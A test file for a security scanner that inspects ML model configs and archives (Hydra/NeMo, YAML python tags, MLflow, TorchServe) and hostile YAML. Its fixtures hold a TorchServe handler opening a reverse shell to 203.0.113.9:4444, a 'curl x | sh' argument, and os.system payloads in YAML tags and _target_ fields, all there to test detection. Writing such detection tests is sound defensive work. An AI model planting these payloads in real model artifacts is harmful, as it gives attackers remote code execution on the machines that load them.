/**
 * Config carriers (T69/T70): Hydra/NeMo `_target_`, YAML `!!python` tags, MLflow MLmodel, TorchServe
 * MANIFEST.json — as text, inside .mar/.nemo archives built here, and hostile YAML (billion laughs, deep
 * nesting, garbage) that must return findings quickly.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  judgeTarget,
  scanMlmodel,
  scanTorchserveManifest,
  scanYamlConfig,
} from '../src/scanners/configs/index.js';
import { scanPaths } from '../src/scanners/engine.js';
import { createPolicy } from '../src/scanners/policy/index.js';
import type { ScanReport } from '../src/scanners/report-model.js';
import { buildTar } from './support/tar-writer.js';
import { tempDir } from './support/temp.js';
import { buildZip } from './support/zip-writer.js';

const policy = createPolicy();
const tmp = tempDir('modelguard-configs-');

function yaml(text: string): string[] {
  return scanYamlConfig(text, { label: 'c.yaml', policy }).map(
    (i) => `${i.rule.id} ${i.severity ?? i.rule.severity}`,
  );
}

function ids(report: ScanReport): string[] {
  return report.findings.map((f) => `${f.ruleId} ${f.severity}`).sort();
}

describe('Hydra / NeMo _target_', () => {
  it.each([
    ['os.system', 'critical'],
    ['subprocess.run', 'critical'],
    ['builtins.eval', 'critical'],
    ['posix.system', 'critical'],
    ['torch.load', 'critical'],
    ['functools.partial', 'high'],
  ])('%s is dangerous (%s)', (target, severity) => {
    const v = judgeTarget(target, policy);
    expect(v.kind).toBe('dangerous');
    expect(v.kind === 'dangerous' ? v.severity : '').toBe(severity);
    expect(yaml(`model:\n  x:\n    _target_: ${target}\n    _args_: ['id']\n`)).toEqual([
      `configs/hydra-target ${severity}`,
    ]);
  });

  it('known framework targets pass; unknown ones are listed once at medium', () => {
    expect(
      yaml(
        'a:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\nb:\n  _target_: torch.optim.AdamW\nc:\n  _target_: collections.OrderedDict\n',
      ),
    ).toEqual([]);
    const issues = scanYamlConfig(
      'a:\n  _target_: acme.Thing\nb:\n  _target_: acme.Thing\nc:\n  _target_: other.Gadget\n',
      {
        label: 'c.yaml',
        policy,
      },
    );
    expect(issues.map((i) => `${i.rule.id} ${i.severity}`)).toEqual(['configs/hydra-target medium']);
    expect(issues[0]?.message).toContain('acme.Thing (line 2), other.Gadget (line 6)');
  });

  it('reports the line and the arguments in the evidence', () => {
    const issues = scanYamlConfig('x: 1\nsched:\n  _target_: os.system\n  _args_:\n    - "curl x | sh"\n', {
      label: 'model_config.yaml',
      policy,
    });
    expect(issues[0]?.message).toContain('model_config.yaml line 3: _target_: os.system');
    expect(issues[0]?.evidence).toContain('_args_: [curl x | sh]');
  });

  it('does not take a dangerous-looking last segment for a module (PIL.Image.new)', () => {
    expect(judgeTarget('PIL.Image.new', policy).kind).toBe('unknown');
  });

  it('Hydra 0.11 target/cls next to params; trust_remote_code: true', () => {
    expect(yaml('m:\n  cls: os.system\n  params: {command: id}\n')).toEqual([
      'configs/hydra-target critical',
    ]);
    expect(yaml('m:\n  cls: os.system\n')).toEqual([]);
    expect(
      yaml(
        'm:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: a/b\n  trust_remote_code: true\n',
      ),
    ).toEqual(['configs/hydra-target high']);
  });
});

describe('YAML python tags', () => {
  it('reports !!python/object/apply with a dangerous callable as critical, other python tags as high', () => {
    expect(yaml('a: !!python/object/apply:os.system ["id"]\n')).toEqual(['configs/yaml-python-tag critical']);
    expect(yaml('a: !!python/name:mylib.helper ""\n')).toEqual(['configs/yaml-python-tag high']);
    expect(yaml('a: !python/object/new:subprocess.Popen [["id"]]\n')).toEqual([
      'configs/yaml-python-tag critical',
    ]);
    expect(yaml('a: !!python/module:os ""\n')[0]).toMatch(/^configs\/yaml-python-tag/);
    expect(yaml('a: !!str plain\nb: !custom x\n')).toEqual([]);
  });
});

describe('hostile YAML', () => {
  it('billion laughs: aliases are never expanded, too many are reported', () => {
    let text = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
    for (let i = 1; i < 10; i++) {
      const name = String.fromCharCode(97 + i);
      const prev = String.fromCharCode(96 + i);
      text += `${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]\n`;
    }
    expect(yaml(text)).toEqual(['configs/malformed medium']);
  });

  it('deep flow nesting is refused before parsing', () => {
    expect(yaml(`a: ${'['.repeat(200_000)}${']'.repeat(200_000)}\n`)).toEqual(['configs/malformed medium']);
    expect(yaml(`a: ${'{b: '.repeat(5_000)}1${'}'.repeat(5_000)}\n`)).toEqual(['configs/malformed medium']);
  });

  it('deep block nesting and garbage return typed results', () => {
    const deep = Array.from({ length: 2000 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n');
    expect(Array.isArray(yaml(deep))).toBe(true);
    let seed = 3;
    const garbage = Array.from({ length: 200_000 }, () => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return String.fromCharCode(32 + (seed >>> 25));
    }).join('');
    expect(Array.isArray(yaml(garbage))).toBe(true);
    expect(yaml('a: [1, 2\nb: {')).toContain('configs/malformed medium');
  });
});

describe('MLflow MLmodel', () => {
  const base = (pyfunc: string): string =>
    `artifact_path: model\nflavors:\n  python_function:\n${pyfunc}\nmlflow_version: 2.16.2\n`;
  it.each([
    [
      'custom PythonModel',
      '    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    code: code',
      'medium',
    ],
    ['built-in flavor loader', '    loader_module: mlflow.sklearn\n    model_path: model.pkl', 'low'],
    ['custom loader module', '    loader_module: my_loader\n    code: code', 'high'],
    ['dangerous loader module', '    loader_module: os.system', 'critical'],
  ])('%s', (_name, pyfunc, severity) => {
    const issues = scanMlmodel(base(pyfunc), { label: 'MLmodel', policy });
    expect(issues.map((i) => `${i.rule.id} ${i.severity}`)).toEqual([`configs/mlflow-pyfunc ${severity}`]);
  });

  it('a model without python_function is a low note', () => {
    const issues = scanMlmodel('flavors:\n  sklearn:\n    pickled_model: model.pkl\n', {
      label: 'MLmodel',
      policy,
    });
    expect(issues.map((i) => `${i.rule.id} ${i.severity}`)).toEqual(['configs/mlflow-pyfunc low']);
  });
});

describe('TorchServe MANIFEST.json', () => {
  it('custom handler, built-in handler, requirements, garbage', () => {
    const custom = scanTorchserveManifest(
      JSON.stringify({
        runtime: 'python',
        model: {
          modelName: 'm',
          serializedFile: 'model.pt',
          handler: 'handler.py',
          requirementsFile: 'requirements.txt',
        },
      }),
      'MAR-INF/MANIFEST.json',
    );
    expect(custom.issues.map((i) => `${i.rule.id} ${i.severity ?? i.rule.severity}`)).toEqual([
      'configs/torchserve-handler medium',
      'configs/torchserve-handler medium',
    ]);
    expect(custom.info.handlerFile).toBe('handler.py');
    const builtin = scanTorchserveManifest(JSON.stringify({ model: { handler: 'image_classifier' } }), 'M');
    expect(builtin.issues.map((i) => i.severity)).toEqual(['info']);
    expect(scanTorchserveManifest('{"model": ', 'M').issues.map((i) => i.rule.id)).toEqual([
      'configs/malformed',
    ]);
  });
});

const SHELL_HANDLER = [
  'import os',
  'import socket',
  'import subprocess',
  'from ts.torch_handler.base_handler import BaseHandler',
  '',
  '',
  'class ShellHandler(BaseHandler):',
  '    def initialize(self, context):',
  '        s = socket.create_connection(("203.0.113.9", 4444))',
  '        subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
  '        super().initialize(context)',
  '',
].join('\n');

describe('archives carrying code', () => {
  it('a TorchServe .mar whose handler pops a shell', async () => {
    const mar = buildZip([
      {
        name: 'MAR-INF/MANIFEST.json',
        data: JSON.stringify({
          createdOn: '01/01/2025 00:00:00',
          runtime: 'python',
          model: {
            modelName: 'resnet',
            serializedFile: 'model.pt',
            handler: 'shell_handler.py',
            modelVersion: '1.0',
          },
          archiverVersion: '0.12.0',
        }),
      },
      { name: 'shell_handler.py', data: SHELL_HANDLER, method: 'deflate' },
      { name: 'index_to_name.json', data: '{"0": "cat"}' },
    ]);
    const path = tmp.write('resnet.mar', mar);
    const report = await scanPaths([path], { failOn: 'never' });
    expect(report.artifacts[0]?.format).toContain('torchserve-mar');
    expect(ids(report)).toEqual([
      'configs/torchserve-handler medium',
      'remote-code/network high',
      'remote-code/process critical',
    ]);
    const proc = report.findings.find((f) => f.ruleId === 'remote-code/process');
    expect(proc?.message).toContain('shell_handler.py: line 10: calls subprocess.Popen');
    expect(proc?.evidence).toContain('shell_handler.py:10: subprocess.Popen');
    expect(report.artifacts[0]?.verdict).toBe('unsafe');
  });

  it('a .nemo tar (and a gzipped one) with model_config.yaml targeting os.system', async () => {
    const nemoConfig =
      'target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\noptim:\n  sched:\n    _target_: os.system\n    _args_: ["id"]\n';
    const tar = buildTar([
      { name: './model_config.yaml', data: nemoConfig },
      { name: './model_weights.ckpt', data: new Uint8Array([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]) },
    ]);
    for (const [name, bytes] of [
      ['asr.nemo', tar],
      ['asr_gz.nemo', new Uint8Array(gzipSync(tar))],
    ] as const) {
      const report = await scanPaths([tmp.write(name, bytes)], { failOn: 'never' });
      expect(report.artifacts[0]?.format, name).toContain('nemo');
      expect(ids(report), name).toEqual(['configs/hydra-target critical']);
      expect(report.findings[0]?.message).toContain('model_config.yaml line 6: _target_: os.system');
    }
  });

  it('a zipped MLflow model: MLmodel and code/ are analysed', async () => {
    const zip = buildZip([
      {
        name: 'model/MLmodel',
        data: 'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    code: code\n',
      },
      { name: 'model/code/helpers.py', data: 'import os\nos.system("id")\n' },
    ]);
    const report = await scanPaths([tmp.write('mlflow_model.zip', zip)], { failOn: 'never' });
    expect(report.artifacts[0]?.format).toContain('mlflow');
    expect(ids(report)).toEqual(['configs/mlflow-pyfunc medium', 'remote-code/process critical']);
  });

  it('PyTorch zips are not routed: TorchScript code/ members stay with the TorchScript rule', async () => {
    const zip = buildZip([
      { name: 'archive/data.pkl', data: new Uint8Array([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]) },
      { name: 'archive/version', data: '3\n' },
      { name: 'archive/code/__torch__/m.py', data: 'import os\nos.system("id")\n' },
    ]);
    const report = await scanPaths([tmp.write('scripted.pt', zip)], { failOn: 'never' });
    expect(report.findings.some((f) => f.ruleId.startsWith('remote-code/'))).toBe(false);
  });
});
